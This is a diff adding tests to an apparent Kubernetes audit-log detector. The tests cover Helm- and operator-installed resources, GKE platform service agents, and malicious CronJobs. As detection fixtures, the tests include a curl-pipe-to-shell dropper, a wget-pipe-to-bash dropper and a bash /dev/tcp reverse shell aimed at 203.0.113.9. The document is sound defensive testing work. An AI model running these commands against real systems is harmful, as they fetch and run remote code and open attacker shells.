@@ -209,3 +209,91 @@ def test_new_checks_never_raise_whatever_field_has_an_odd_type() -> None:
             assert_no_internal_error({**positive, **changed, "auditID": f"m{count}"})
             count += 1
     assert count > 200
+
+
+def test_what_a_chart_or_operator_installs_is_not_judged_by_its_shape() -> None:
+    """Monitoring charts read nodes/proxy, operators own their webhooks, agents run
+    privileged: the same objects by hand stay findings (the tests above)."""
+    helm = {"labels": {"app.kubernetes.io/managed-by": "Helm"}}
+    proxy = [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}]
+    chart_role = request("create", "clusterroles", namespace=None, name="prometheus",
+                         body={"metadata": {"name": "prometheus", **helm}, "rules": proxy})
+    argo_role = request("create", "clusterroles", namespace=None, name="r", body={
+        "metadata": {"name": "r"}, "rules": proxy},
+        userAgent="argocd-application-controller/v2.9.3 (linux/amd64)")
+    hook = webhook("mutating", {"url": "https://203.0.113.9/mutate"})
+    hook["requestObject"]["metadata"]["ownerReferences"] = [{"kind": "Deployment",
+                                                              "name": "operator"}]
+    agent = request("create", "daemonsets", name="agent", body={
+        "metadata": {"name": "agent", "annotations": {"meta.helm.sh/release-name": "dd"}},
+        "spec": {"template": {"spec": {"hostPID": True, "containers": [{"name": "a"}]}}}})
+    test_pod = request("create", "pods", name="t", namespace="kube-system", user=PERSON,
+                       body={"metadata": {"name": "t", "annotations": {"helm.sh/hook": "test"}},
+                             "spec": {"containers": [{"name": "c"}]}})
+    nodeport = request("create", "services", name="s", user=PERSON, userAgent="Helm/3.14.0",
+                       body={"metadata": {"name": "s"}, "spec": {"type": "NodePort"}})
+    by_hand = request("create", "daemonsets", name="agent", user=PERSON, body={
+        "metadata": {"name": "agent", "labels": {"app.kubernetes.io/managed-by": "me"}},
+        "spec": {"template": {"spec": {"hostPID": True, "containers": [{"name": "a"}]}}}})
+    assert findings(chart_role, argo_role, hook, agent, test_pod, nodeport, by_hand) == [
+        ("k8s.privileged_pod", "medium", "hostPID")]
+
+
+def test_google_managed_service_agents_on_gke_are_the_platform() -> None:
+    """GKE's robot and the gcp-sa-* agents of managed add-ons install roles, services and
+    node agents on the cluster; a workload's own Google service account is not one."""
+    from tests.detector.test_techniques_k8s import gke
+    proxy = {"rules": [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}]}
+    nodeport = {"spec": {"type": "NodePort", "ports": [{"nodePort": 30001}]}}
+
+    def both(principal: str) -> list[dict]:
+        return [gke("io.k8s.authorization.rbac.v1.clusterroles.create",
+                    "rbac.authorization.k8s.io/v1/clusterroles/agent", principal,
+                    request=proxy),
+                gke("io.k8s.core.v1.services.create", "core/v1/namespaces/config/services/s",
+                    principal, request=nodeport)]
+
+    robot = "service-42@container-engine-robot.iam.gserviceaccount.com"
+    addon = "service-42@gcp-sa-anthosconfigmanagement.iam.gserviceaccount.com"
+    workload = "deployer@corp-prod.iam.gserviceaccount.com"
+    assert findings(*both(robot), *both(addon), *both(workload)) == [
+        ("k8s.escalation_role", "medium", "agent"),
+        ("k8s.nodeport_service", "low", "config/s")]
+
+
+def cronjob(command: list[str], *, verb: str = "create", user: str = PERSON,
+            **metadata: Any) -> dict:
+    job = {"spec": {"template": {"spec": {"containers": [
+        {"name": "job", "image": "alpine", "command": command[:2], "args": command[2:]}]}}}}
+    return request(verb, "cronjobs", name="sync", user=user, body={
+        "metadata": {"name": "sync", **metadata},
+        "spec": {"schedule": "*/5 * * * *", "jobTemplate": job}})
+
+
+def test_cronjob_that_downloads_and_runs_code_or_opens_a_remote_shell() -> None:
+    dropper = ["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"]
+    reverse = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
+    backup = ["/bin/sh", "-c", "pg_dump app | gzip | aws s3 cp - s3://backups/app.gz"]
+    notify = ["sh", "-c", "curl -fsS -X POST http://reports.internal/run && echo done"]
+    assert findings(cronjob(dropper), cronjob(reverse, verb="patch"), cronjob(backup),
+                    cronjob(notify)) == [
+        ("k8s.cronjob_dropper", "high", "default/sync"),
+        ("k8s.cronjob_dropper", "high", "default/sync")]
+
+
+def test_cronjob_dropper_from_the_platform_or_a_chart_is_not_judged() -> None:
+    dropper = ["/bin/sh", "-c", "wget -qO- http://203.0.113.9/m | bash"]
+    chart = cronjob(dropper, labels={"app.kubernetes.io/managed-by": "Helm"})
+    controller = cronjob(dropper, user="system:kube-controller-manager")
+    assert findings(chart, controller) == []
+
+
+def test_cronjob_check_never_raises_whatever_field_has_an_odd_type() -> None:
+    positive = cronjob(["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"],
+                       labels={"team": "ops"})
+    body = {k: v for k, v in positive.items() if k in ("requestObject", "objectRef")}
+    count = 0
+    for changed in variants(body):
+        assert_no_internal_error({**positive, **changed, "auditID": f"c{count}"})
+        count += 1
+    assert count > 20
